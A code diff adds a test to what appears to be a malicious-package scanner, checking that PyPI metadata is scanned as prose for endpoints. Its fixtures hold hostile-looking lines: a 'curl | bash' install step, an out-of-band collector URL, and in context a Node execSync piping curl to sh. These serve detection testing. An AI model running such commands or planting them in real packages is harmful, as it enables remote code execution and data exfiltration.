@@ -129,6 +129,17 @@ def test_prose_is_scanned_for_endpoints_not_for_what_code_does(engine: Engine) -
     assert "download_pipe_to_shell" in as_code
 
 
+def test_pypi_metadata_is_prose(engine: Engine) -> None:
+    metadata = (
+        "Metadata-Version: 2.1\nName: tidy-strings\nVersion: 0.4.0\n\n"
+        "Install with `curl -s https://get.example/i.sh | bash`; "
+        "report at https://collector.example.oast.fun/r.\n"
+    )
+    hits = _hit_rules(engine, sdist({"PKG-INFO": metadata}), "PKG-INFO")
+    assert "oast_url" in hits
+    assert "download_pipe_to_shell" not in hits
+
+
 def test_prose_named_file_that_opens_like_code_gets_every_signature(engine: Engine) -> None:
     script = (
         "const cp = require('child_process');\ncp.execSync('curl -s https://x.example/p | sh');\n"
